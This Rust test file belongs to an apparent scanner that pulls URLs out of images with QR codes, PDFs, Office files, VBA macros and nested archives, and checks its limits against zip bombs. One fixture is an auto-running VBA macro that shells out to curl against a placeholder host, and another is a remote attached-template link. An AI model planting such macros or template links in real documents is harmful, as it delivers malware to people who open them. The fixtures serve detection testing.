use std::io::{Cursor, Write as _};

use image::{DynamicImage, GrayImage, ImageFormat, Luma};
use proptest::prelude::*;

use super::*;

fn zip(members: &[(&str, &[u8])]) -> Vec<u8> {
    let mut writer = zip::ZipWriter::new(Cursor::new(Vec::new()));
    for (name, bytes) in members {
        writer.start_file(*name, zip::write::SimpleFileOptions::default()).unwrap();
        writer.write_all(bytes).unwrap();
    }
    writer.finish().unwrap().into_inner()
}

fn urls(deep: &Deep) -> Vec<(&'static str, &str, &str)> {
    deep.urls.iter().map(|u| (u.place.as_str(), &*u.url, &*u.member)).collect()
}

/// `https://t.example/q/7` as a QR code of version 2, level L, as `qrencode` draws it.
const CODE: &str = include_str!("testdata/code.txt");

/// The code with `scale` pixels a module and a quiet margin.
fn code(scale: u32, dark: u8, light: u8) -> GrayImage {
    let rows: Vec<&str> = CODE.lines().collect();
    let side = u32::try_from(rows.len()).unwrap();
    GrayImage::from_fn((side + 8) * scale, (side + 8) * scale, |x, y| {
        let (x, y) = ((x / scale).wrapping_sub(4), (y / scale).wrapping_sub(4));
        let set = x < side && y < side && rows[y as usize].as_bytes()[x as usize] == b'#';
        Luma([if set { dark } else { light }])
    })
}

fn png(picture: GrayImage) -> Vec<u8> {
    let mut out = Cursor::new(Vec::new());
    DynamicImage::ImageLuma8(picture).write_to(&mut out, ImageFormat::Png).unwrap();
    out.into_inner()
}

const QR: (&str, &str, &str) = ("qr", "https://t.example/q/7", "");

#[test]
fn codes_in_pictures() {
    for (scale, dark, light) in [(3, 0, 255), (8, 60, 200), (60, 0, 255), (5, 255, 0)] {
        let deep = read(&png(code(scale, dark, light)));
        assert_eq!(deep.kind, "image/png");
        assert_eq!(urls(&deep), [QR], "{scale} {dark} {light}: {:?}", deep.problems);
    }
    let blank = read(&png(GrayImage::from_pixel(300, 300, Luma([255]))));
    assert!(blank.urls.is_empty() && blank.problems.is_empty());
}

#[test]
fn a_picture_full_of_corners_is_not_searched() {
    let corner = |x: u32, y: u32| {
        let edge = |n: u32| n == 0 || n == 6;
        x < 7 && y < 7 && (edge(x) || edge(y) || (2..5).contains(&x) && (2..5).contains(&y))
    };
    let picture =
        GrayImage::from_fn(900, 900, |x, y| Luma([if corner(x % 9, y % 9) { 0 } else { 255 }]));
    let deep = read(&png(picture));
    assert!(deep.problems[0].contains("corners"), "{:?}", deep.problems);
}

#[test]
fn pictures_too_large_are_said() {
    let mut bytes = png(GrayImage::new(21, 21));
    // Width and height in the header; its checksum is wrong then, which is as well.
    bytes[16..24].copy_from_slice(&[0, 1, 0, 0, 0, 1, 0, 0]);
    let deep = read(&bytes);
    assert_eq!(deep.problems.len(), 1, "{:?}", deep.problems);
}

fn pdf() -> Vec<u8> {
    use lopdf::{Document, Object, Stream, dictionary};
    let mut document = Document::with_version("1.5");
    let pages = document.new_object_id();
    let link = document.add_object(dictionary! {
        "Type" => "Annot",
        "Subtype" => "Link",
        "A" => dictionary! { "S" => "URI", "URI" => Object::string_literal("https://pdf.example/link") },
    });
    let text = b"BT /F1 12 Tf (see https://pdf.example/text now) Tj ET".to_vec();
    let mut text = Stream::new(dictionary! {}, text);
    text.compress().unwrap();
    let text = document.add_object(text);
    let picture = code(4, 0, 255);
    let mut image = Stream::new(
        dictionary! {
            "Type" => "XObject",
            "Subtype" => "Image",
            "Width" => i64::from(picture.width()),
            "Height" => i64::from(picture.height()),
            "ColorSpace" => "DeviceGray",
            "BitsPerComponent" => 8,
        },
        picture.into_raw(),
    );
    image.compress().unwrap();
    document.add_object(image);
    let page = document.add_object(dictionary! {
        "Type" => "Page", "Parent" => pages, "Contents" => text, "Annots" => vec![link.into()],
    });
    document.objects.insert(
        pages,
        Object::Dictionary(dictionary! {
            "Type" => "Pages", "Kids" => vec![page.into()], "Count" => 1,
        }),
    );
    let catalog = document.add_object(dictionary! { "Type" => "Catalog", "Pages" => pages });
    document.trailer.set("Root", catalog);
    let mut out = Vec::new();
    document.save_to(&mut out).unwrap();
    out
}

#[test]
fn links_text_and_codes_of_a_pdf() {
    let deep = read(&pdf());
    let mut got = urls(&deep);
    got.sort_unstable();
    let want =
        [("pdf", "https://pdf.example/link", ""), ("pdf", "https://pdf.example/text", ""), QR];
    assert_eq!(got, want, "{:?}", deep.problems);
    assert_eq!(deep.kind, "application/pdf");
    assert!(deep.tlsh.starts_with("T1"), "{}", deep.tlsh);
}

fn docx(extra: &[(&str, &[u8])]) -> Vec<u8> {
    let rels = br#"<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
        <Relationship Id="a" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink"
        Target="https://office.example/link?a=1&amp;b=2" TargetMode="External"/>
        <Relationship Id="b" Type="http://x/attachedTemplate" Target="https://office.example/t.dotm" TargetMode="External"/>
        </Relationships>"#;
    let body = br#"<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">
        <w:p><w:r><w:t>go to https://office.ex</w:t></w:r><w:r><w:t>ample/text</w:t></w:r></w:p></w:document>"#;
    let mut members: Vec<(&str, &[u8])> = vec![
        ("[Content_Types].xml", b"<Types/>"),
        ("word/_rels/document.xml.rels", rels),
        ("word/document.xml", body),
    ];
    members.extend(extra);
    zip(&members)
}

#[test]
fn targets_and_text_of_office_files() {
    let picture = png(code(4, 0, 255));
    let deep = read(&docx(&[("word/media/image1.png", &picture)]));
    assert_eq!(
        urls(&deep),
        [
            ("office", "https://office.example/link?a=1&b=2", ""),
            ("office", "https://office.example/t.dotm", ""),
            ("office", "https://office.example/text", ""),
            QR,
        ],
        "{:?}",
        deep.problems
    );
    assert!(deep.members.is_empty());
}

/// Packs source as macros are, without copying anything.
fn pack(source: &[u8]) -> Vec<u8> {
    let mut out = vec![1];
    for chunk in source.chunks(3_600) {
        let mut packed = Vec::new();
        for eight in chunk.chunks(8) {
            packed.push(0);
            packed.extend_from_slice(eight);
        }
        let header = 0xb000 | u16::try_from(packed.len() - 1).unwrap();
        out.extend_from_slice(&header.to_le_bytes());
        out.extend(packed);
    }
    out
}

fn project(root: &str, source: &str) -> Vec<u8> {
    let record = |id: u16, data: &[u8]| {
        let size = u32::try_from(data.len()).unwrap();
        [&id.to_le_bytes()[..], &size.to_le_bytes(), data].concat()
    };
    let list = [
        [&0x0009_u16.to_le_bytes()[..], &4_u32.to_le_bytes(), &[0; 6]].concat(),
        record(0x0019, b"Module1"),
        record(0x001a, b"Module1"),
        record(0x0031, &5_u32.to_le_bytes()),
        record(0x002b, b""),
    ];
    let mut file = cfb::CompoundFile::create(Cursor::new(Vec::new())).unwrap();
    let folder = format!("{root}/VBA");
    file.create_storage_all(&folder).unwrap();
    let mut put = |name: &str, bytes: &[u8]| {
        let mut stream = file.create_stream(format!("{folder}/{name}")).unwrap();
        stream.write_all(bytes).unwrap();
    };
    put("dir", &pack(&list.concat()));
    put("Module1", &[b"junk!", &pack(source.as_bytes())[..]].concat());
    file.into_inner().into_inner()
}

const SOURCE: &str = "Sub AutoOpen()\r\n  Shell \"curl https://macro.example/x\"\r\nEnd Sub\r\n";

#[test]
fn macros_of_old_and_new_files() {
    let old = read(&project("/Macros", SOURCE));
    let new = read(&docx(&[("word/vbaProject.bin", &project("", SOURCE))]));
    for deep in [&old, &new] {
        let [module] = &deep.macros[..] else { panic!("{deep:?}") };
        assert_eq!((&*module.name, &module.runs[..]), ("Module1", &["autoopen".to_owned()][..]));
        assert_eq!(module.sha256, sha256_hex(SOURCE.as_bytes()));
        assert!(urls(deep).contains(&("macro", "https://macro.example/x", "")), "{deep:?}");
    }
}

/// MS-OVBA 3.2.2, the normal example: `#aaabcdefaaaaghijaaaaaklaaamnopqaaaaaaaaaaaarstuvwxyzaaa`.
#[test]
fn the_standards_own_example_of_packed_source() {
    let packed = [
        0x01, 0x2f, 0xb0, 0x00, 0x23, 0x61, 0x61, 0x61, 0x62, 0x63, 0x64, 0x65, 0x82, 0x66, 0x00,
        0x70, 0x61, 0x67, 0x68, 0x69, 0x6a, 0x01, 0x38, 0x08, 0x61, 0x6b, 0x6c, 0x00, 0x30, 0x6d,
        0x6e, 0x6f, 0x70, 0x06, 0x71, 0x02, 0x70, 0x04, 0x10, 0x72, 0x73, 0x74, 0x75, 0x76, 0x10,
        0x77, 0x78, 0x79, 0x7a, 0x00, 0x3c,
    ];
    let got = macros::decompress(&packed).unwrap();
    let want = "#aaabcdefaaaaghijaaaaaklaaamnopqaaaaaaaaaaaarstuvwxyzaaa";
    assert_eq!(String::from_utf8(got).unwrap(), want);
}

#[test]
fn members_of_archives_are_looked_into() {
    let inner =
        zip(&[("lure.docx", &docx(&[])), ("note.html", b"<a href='https://text.example/x'>")]);
    let bytes = zip(&[("a/inner.zip", &inner), ("b.pdf", &pdf()), ("empty", b"")]);
    let deep = read(&bytes);
    let paths: Vec<_> = deep.members.iter().map(|m| (&*m.path, &*m.kind)).collect();
    let office = "application/vnd.openxmlformats-officedocument.wordprocessingml.document";
    assert_eq!(
        paths,
        [
            ("a/inner.zip!/lure.docx", office),
            ("a/inner.zip!/note.html", "text/html"),
            ("b.pdf", "application/pdf"),
            ("empty", "")
        ],
        "{:?}",
        deep.problems
    );
    let got = urls(&deep);
    assert!(got.contains(&("office", "https://office.example/t.dotm", "a/inner.zip!/lure.docx")));
    assert!(got.contains(&("text", "https://text.example/x", "a/inner.zip!/note.html")));
    assert!(got.contains(&("qr", "https://t.example/q/7", "b.pdf")));
    assert_eq!(deep.members[3].sha256, sha256_hex(b""));
}

#[test]
fn urls_in_wide_text() {
    let text = "x https://wide.example/a y";
    let wide: Vec<u8> = text.encode_utf16().flat_map(u16::to_le_bytes).collect();
    for bytes in
        [[b"\xff\xfe".to_vec(), wide.clone()].concat(), [b"\xff\xfe\0".to_vec(), wide].concat()]
    {
        assert_eq!(urls(&read(&bytes)), [("text", "https://wide.example/a", "")]);
    }
}

#[test]
fn bombs_and_numbers_are_bounded() {
    let many: Vec<String> = (0..2_100).map(|n| format!("https://many.example/{n}\n")).collect();
    let deep = read(many.concat().as_bytes());
    assert_eq!(deep.urls.len(), MAX_URLS);
    assert_eq!(deep.problems, ["more than 2000 urls: the rest is left out"]);
    let zeros = vec![0; 80 << 20];
    let deep = read(&zip(&[("zeros", &zeros)]));
    assert!(deep.problems[0].contains("not looked into"), "{:?}", deep.problems);
    let mut nest = docx(&[]);
    for _ in 0..12 {
        nest = zip(&[("x.zip", &nest)]);
    }
    assert!(!read(&nest).problems.is_empty());
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(60))]

    #[test]
    fn damaged_files_are_survived(
        which in 0_usize..4,
        edits in proptest::collection::vec((any::<prop::sample::Index>(), any::<u8>()), 1..12),
        cut in any::<prop::sample::Index>(),
    ) {
        let mut bytes = match which {
            0 => pdf(),
            1 => docx(&[("word/vbaProject.bin", &project("", SOURCE))]),
            2 => project("/Macros", SOURCE),
            _ => png(code(3, 0, 255)),
        };
        for (at, byte) in edits {
            let at = at.index(bytes.len());
            bytes[at] = byte;
        }
        let once = read(&bytes);
        prop_assert_eq!(once, read(&bytes));
        bytes.truncate(cut.index(bytes.len()) + 1);
        let _ = read(&bytes);
    }

    #[test]
    fn any_bytes_are_read(bytes in proptest::collection::vec(any::<u8>(), 0..400)) {
        let _ = read(&bytes);
    }
}
